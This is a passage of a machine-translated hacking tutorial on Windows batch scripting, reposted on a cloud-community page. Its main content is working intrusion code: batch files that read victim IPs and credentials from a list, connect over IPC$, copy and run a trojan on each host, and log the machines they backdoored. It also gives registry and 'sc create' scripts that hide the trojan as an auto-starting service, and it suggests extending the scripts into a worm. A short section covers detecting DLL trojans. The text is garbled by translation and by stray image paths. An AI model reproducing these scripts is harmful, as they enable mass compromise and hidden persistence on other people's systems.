However. bat is nothing more than using the net use command to establish an IPC $ connection, copy the trojan + backdoor to victim, and then use the return code (if errorlever =) to filter hosts that successfully planted the backdoor, and echo it out, or echo it to the specified file.
The content in delims = effecvivtim.txt is separated by an empty space. I want to see what the content in victim.txt is. It should be arranged according to the objects represented by % I % J % K, which is generally IP password username.
Code Prototype:
--- Cut here then save as a batchfile (I callit main. BAT )---
@ Echo off
@ If "% 1" = "" Goto usage
@ For/F "tokens = 1, 2, 3 delims =" % I in (victim.txt) do start call ipchack. Bat % I % J % K
@ Goto end
: Usage
@ Echo run this batch in DOS modle. Or just double-click it.
: End
--- Cut here then save as a batchfile (I call it main. BAT )---
--- Cut here then save as a batchfile (I call it door. BAT )---
@ Netuse % 1ipc $ % 3/u: "% 2"
@ If errorlevel 1 goto failed
@ Echo trying to establish the IPC $ connection ............ OK
@ Copy windrv32.exe % 1 ADMIN $ system32 & if not errorlevel 1 echo IP % 1 USER % 2 PWD % 3>ko.txt
@ Brief xec % 1 C: winntsystem32windrv32.exe
@ Export xec % 1 Net start windrv32 & if not errorlevel 1 echo % 1 backdoored> ko.txt
: Failed
@ Echo sorry can not connected to the victim.
--- Cut here then save as a batchfile (I call it door. BAT )---
This is just an example of automatic post-planting door batch processing. The two batch processing and post-door program (windrv32.exe.pdf, And the batch xec.exeshould be placed in a unified directory. Batch Processing content
Still scalable. For example, adding the log clearing + DDoS function and adding users regularly can enable automatic propagation (worm ). I will not describe it here. If you are interested, you can study it on your own.
2. How to Use parameters in batch files
Parameters can be used in batch processing, generally from 1% to 9%. shift is required when there are multiple parameters. This is rare and we will not consider it.
Sample1: fomat. bat
@ Echo off
If "% 1" = "A" format:
: Format
@ Format A:/Q/u/auotset
@ Echo Please insert another disk to driver.
@ Pause
@ Goto fomat
This example is used to consecutively format several floppy disks. Therefore, you need to input fomat. bat a in the DOS window ~ Pai_^
When we want to establish an IPC $ connection location, we always need to input a large number of commands. If this is not the case, we will make an error. Therefore, we should write some fixed commands into a batch, assign the IP password username in front of the parameter to this batch for processing, so that you do not need to execute commands every time.
@ Echo off
@ Net use 1% IPC $ "2%"/u: "3%" NOTE: Here password is the second parameter.
@ If errorlevel 1 echo connection failed
How about using parameters? You must have learned ^_^.
3. How to Use compound command)
1 .&
Usage: The First Command and the second command [& the third command...]This method can be used to execute multiple commands at the same time, regardless of whether the command is successfully executed.

C:> dir Z: & dir C: ex4rch
The system cannot find the path specified.
Volume in drive C has no label.
Volume serial number is 0078-59fb

Directory of C: ex4rch

14 sometips.gif
2 .&&
Usage: The first command & the second command [& the third command...]
This method can be used to execute multiple commands at the same time. When an error occurs, the subsequent commands will not be executed. If there is no error, all the commands will be executed;
C:> dir Z: & dir C: ex4rch
The system cannot find the path specified.

C:> dir C: ex4rch & dir Z:
Volume in drive C has no label.
Volume serial number is 0078-59fb

Directory of C: ex4rch

14 sometips.gif
1 file (s) 14 bytes
2 Dir (s) 768,671,744 bytes freeThe system cannot find the path specified.

This command may be relatively simple during backup, for example:
Dir file: // mdb & copy file: // mdb E: Backup
If the backup. MDB file exists on the remote server, run the Copy command. If the file does not exist, do not run the Copy command. This method can replace if exist :)
3. |

Usage: The First Command | the second command [| the third command...]

This method can be used to execute multiple commands at the same time. When a correct command is executed, the subsequent commands are not executed. If no correct command is displayed, all the commands are executed;

C: ex4rch> dir sometips.gif | del sometips.gif
Volume in drive C has no label.
Volume serial number is 0078-59fb

Directory of C: ex4rch

14 sometips.gif
1 file (s) 14 bytes
0 Dir (s) 768,696,320 bytes free
Examples of combined commands:
@ Copy trojan.exe % 1 ADMIN $ system32 & if not errorlevel 1 echo IP % 1 USER % 2 pass % 3> victim.txt
Iv. Use of pipeline commands
1. | command
Usage: The First Command | the second command [| the third command...]
Use the result of the first command as a parameter of the second command. Remember that this method is common in UNIX.

Time/T> D: IP. Log
Netstat-n-p tcp | find ": 3389"> D: IP. Log
Start Explorer
See it? The terminal service allows us to customize thestarting program for the user, so that the user can run the following BAT to obtain the IP address of the login user.
2.>,> output redirection command
Redirects a command or program output result to a specific file. The difference between> and> is that> clears the content of the original file and writes it to the specified file, >>> only the content is appended to the specified file without modifying the content.
Echo Hello World> C: hello.txt (stupid example ?)
Nowadays, DLL Trojans are prevalent. We know that system32 is a good place to hide and seek data. Many Trojans are sharp and drill their heads there. dll Trojans are no exception, to solve this problem, we can record the EXE and DLL files in the directory after installing the system and necessary applications: Run cmd -- convert the directory to system32 -- dir *. EXE> exeback.txt & dir *. DLL> dllback.txt. All exeand dllfilenames in this example are recorded separately to exeback.txtand dllback.txt. if an exception is found in the future but the problem cannot be found using the traditional method, you should consider whether the system has already penetrated the DLL Trojan. in this case, we use the same command to record the EXE and DLL files under system32 to another exeback1.txtand dllback1.txt, and then run cmd -- FC exeback.txt exeback1.txt> diff.txt & FC dllback.txtdllback1 . TXT> diff.txt.(use the fccommand to compare the preceding two DLL andexe files and input the result to diff.txt). In this way, we can find multiple DLL and exe files, then, by checking the creation time, version, compression, and so on, you can easily determine whether it has been patronized by the DLL Trojan. No is the best. If yes, do not drop del directly. Use regsvr32/u Trojan first. DLL cancels the backdoor DLL file and moves it to the recycle bin. if the system does not report any exceptions, delete the file or submitit to the antivirus software company.
3. &, <&
& Write the output of one handle to the input of another handle.
<& Read the input from one handle and write it into another handle output.
These are not commonly used, so we will not introduce them much.
5. How to use a batch file to operate the Registry
During the intrusion process, the specific key values of the Registry are often operated back to achieve a certain purpose. For example, the residual key values under run are deleted to hide backdoors and Trojans. Or create a service to load the backend. Of course, we will also modify the Registry to reinforce the system or change a certain attribute of the system, which requires us to have a certain understanding of registry operations. Next we will first learn how to use it. reg file to operate the registry. (We can use batch processing to generate an reg file.) registry operations are typically created, modified, and deleted.
1. Create
There are two ways to create a subkey)

Create a file with the following content:

Windows Registry Editor Version 5.00

Then run the script, and you have created a subitem named "hacker" underhkey_local_machinesoftwaremicrosoft.
Create a project name.
This file format is a typical file format, which is consistent with the file format exported from the Registry. The content is as follows:
Windows Registry Editor Version 5.00
"Invader" = "ex4rch"
"Door" = C: winntsystem32door.exe
"Autodos" = DWORD: 02
In this way, under [hkey_local_machinesoftwaremicrosoftwindowscurrentversionrun]
The following three projects are created: invader, door, and about.
The invader type is "string value"
The door type is "Reg SZ value"
The autodos type is "DWORD Value"
2. Modify
Modification is relatively simple. You only need to export the project you want to modify, use NotePad to modify it, and then import it (Regedit/s.
3. Delete
To delete a project name, create the following file:

Windows Registry Editor Version 5.00
"Ex4rch" =-

Run this script. "ex4rch" under [hkey_local_machinesoftwaremicrosoftwindowscurrentversionrun] is deleted;Let's take a look at how to delete a subitem and create the following script:

Windows Registry Editor Version 5.00

Run this script. [hkey_local_machinesoftwaremicrosoftwindowscurrentversionrun] is deleted.
I believe you have mastered the. reg file. Now the goal is to use batch processing to create a. reg file for specific content. Remember the redirection symbol we mentioned earlier to easily create a specific type of file.
Samlpe1: for example, to generate the following registry file
Windows Registry Editor Version 5.00
"Invader" = "ex4rch"
"Door" = HEX: 255
"Autodos" = DWORD: 000000128
You only need:
@ Echo Windows Registry Editor Version 5.00> sample. Reg

@ Echo [hkey_local_machinesoftwaremicrosoftwindowscurrentversionrun]> sample. Reg
@ Echo "invader" = "ex4rch"> sample. Reg
@ Echo "Door" = 5> C: winntsystem32door.exe> sample. Reg
@ Echo "autodos" = DWORD: 02> sample. Reg
When using old Trojans, a key value may be generated under [hkey_local_machinesoftwaremicrosoftwindowscurrentversionrun (runonce, runservices, runexec)] in the Registry to enable automatic startup of Trojans. however, this easily exposes the path of the Trojan program, causing the Trojan to be scanned and killed. If the trojan program is registered as a system service, the trojan program is relatively secure. In the following example, irctrojan is used as an example (named windrv32.exe)
@ Start windrv32.exe
@ Attrib + H + R windrv32.exe
@ Echo [hkey_local_machinesoftwaremicrosoftwindowscurrentversionrun]> patch. dll
@ Echo "windsnx" =-> patch. dll
@ SC .exe create windriversrv type = kernel start = auto displayname =windowsdriver binpath = C: winntsystem32windrv32.exe
@ Regedit/s patch. dll
@ Delete patch. dll

@ REM remove the startup Item of dsnxdein the registration table, use SC .exe to register it as a critical service of the system, set its attributes to hidden and read-only, and config as self-starting]
@ REM is not safer.

You can reference this article through this link:


Related ArticleContact Us

The content source of this page is from Internet, which doesn't represent Alibaba Cloud's opinion; products and services mentioned on that page don't have any relationship with Alibaba Cloud. If the content of the page makes you feel confusing, please write us an email, we will handle the problem within 5 days after receiving your email.

If you find any instances of plagiarism from the community, please send an email to: and provide relevant evidence. A staff member will contact you within 5 working days.

A Free Trial That Lets You Build Big!

Start building with 50+ products and up to 12 months usage for ElasticCompute Service

  •Sales Support

    1 on 1 presale consultation

  • After-Sales Support

    24/7 Technical Support 6 Free Tickets per Quarter Faster Response

  • Alibaba Cloud offers highly flexible support services tailored to meet your exact needs.